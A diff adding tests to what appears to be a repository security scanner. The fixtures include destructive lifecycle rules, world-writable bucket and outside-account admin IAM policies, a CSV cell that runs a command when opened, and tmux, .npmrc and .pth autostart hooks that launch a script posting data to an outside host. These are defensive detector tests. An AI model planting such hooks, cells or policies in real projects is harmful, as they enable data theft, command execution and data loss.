@@ -191,3 +191,57 @@ def test_cfn_render_fills_parameter_defaults_and_keeps_the_account_id():
 def test_action_name_takes_off_action_affixes():
     assert filekinds._action_name("setup-buildx-action") == "setup-buildx"
     assert filekinds._action_name("action-gh-release") == "gh-release"
+
+
+# ---------------------------------------------------------------- other members of the class the table lists
+
+def test_azure_management_policy_deleting_every_blob_and_its_prefixed_twin():
+    rule = {"enabled": True, "name": "trim", "type": "Lifecycle",
+            "definition": {"actions": {"baseBlob": {"delete": {"daysAfterModificationGreaterThan": 1}}},
+                           "filters": {"blobTypes": ["blockBlob"]}}}
+    assert ("DX-06", "high") in _rules(scan({"policies/az.json": json.dumps({"rules": [rule]}, indent=2)}))
+    rule["definition"]["filters"]["prefixMatch"] = ["logs/tmp/"]
+    assert not _rules(scan({"policies/az.json": json.dumps({"rules": [rule]}, indent=2)}))
+
+
+def test_terraform_lifecycle_with_an_empty_filter_and_one_on_a_prefix():
+    tf = ('resource "aws_s3_bucket_lifecycle_configuration" "x" {\n  bucket = var.bucket\n  rule {\n    id = "trim"\n'
+          '    status = "Enabled"\n    filter {}\n    expiration {\n      days = 1\n    }\n  }\n}\n')
+    assert ("DX-06", "high") in _rules(scan({"infra/s3.tf": tf}))
+    assert not _rules(scan({"infra/s3.tf": tf.replace("filter {}", 'filter {\n      prefix = "tmp/"\n    }')}))
+
+
+def test_bucket_policy_letting_anyone_write_and_a_public_read_website():
+    stmt = {"Effect": "Allow", "Principal": "*", "Action": "s3:PutObject", "Resource": "arn:aws:s3:::b/*"}
+    assert ("PE-07", "high") in _rules(scan({"policies/bucket.json": json.dumps({"Statement": [stmt]}, indent=2)}))
+    stmt["Action"] = "s3:GetObject"
+    assert not _rules(scan({"policies/bucket.json": json.dumps({"Statement": [stmt]}, indent=2)}))
+
+
+def test_terraform_admin_attachment_for_an_outside_account_and_for_the_doc_example_account():
+    tf = ('resource "aws_iam_role" "r" {\n  assume_role_policy = jsonencode({\n    Statement = [{\n      Effect = "Allow"\n'
+          '      Principal = { AWS = "arn:aws:iam::{acct}:root" }\n      Action = "sts:AssumeRole"\n    }]\n  })\n}\n'
+          'resource "aws_iam_role_policy_attachment" "a" {\n  role = aws_iam_role.r.name\n'
+          '  policy_arn = "arn:aws:iam::aws:policy/AdministratorAccess"\n}\n')
+    assert ("PE-07", "high") in _rules(scan({"infra/iam.tf": tf.replace("{acct}", "731846205519")}))
+    assert not _rules(scan({"infra/iam.tf": tf.replace("{acct}", "123456789012")}))
+
+
+def test_csv_cell_running_a_command_when_opened_and_a_formula_cell():
+    bad = 'date,amount,note\n2024-01-01,12.50,"=cmd|\' /C calc\'!A0"\n'
+    assert ("SC-01", "high") in _rules(scan({"data/ledger.csv": bad}))
+    assert not _rules(scan({"data/ledger.csv": 'date,amount,total\n2024-01-01,12.50,"=SUM(B2:B9)"\n'}))
+
+
+def test_runners_tmux_npm_and_pth_name_a_program_that_sends():
+    py = 'import os, requests\nrequests.post("https://t.example.net/c", data=os.getcwd())\n'
+    for conf_path, conf in (("dotfiles/tmux.conf", "run-shell -b 'python3 ~/.tmux/status_beacon.py'\n"),
+                            ("dotfiles/.npmrc", "node-options=--require ./status_beacon.py\n"),
+                            ("site/zz_boot.pth", "import status_beacon\n")):
+        r = scan({conf_path: conf, "tools/status_beacon.py": py})
+        assert any(f.rule == "EX-01" and f.file == "tools/status_beacon.py" and f.grades for f in r.findings), conf_path
+
+
+def test_runner_naming_a_program_that_only_formats_stays_clean():
+    py = 'import sys\nprint(sys.argv[1:])\n'
+    assert not _rules(scan({"dotfiles/tmux.conf": "run-shell 'python3 ~/.tmux/status_fmt.py'\n", "tools/status_fmt.py": py}))
